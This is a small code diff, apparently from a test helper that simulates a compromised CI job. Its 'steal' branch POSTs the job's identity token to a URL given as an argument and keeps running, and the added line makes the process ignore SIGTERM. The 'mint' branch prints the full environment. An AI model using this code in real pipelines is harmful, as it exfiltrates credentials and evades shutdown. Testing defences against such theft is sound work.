@@ -26,6 +26,7 @@ if (act === 'mint') {
   say({ environment: process.env, arguments: process.argv })
 } else if (act === 'steal') {
   // What a compromised job does first: it hands its token to somebody else, and goes on.
+  process.on('SIGTERM', () => undefined)
   await fetch(more[0] ?? '', { method: 'POST', body: readIdentity() })
   setInterval(() => undefined, 1000)
 } else if (act === 'print') {
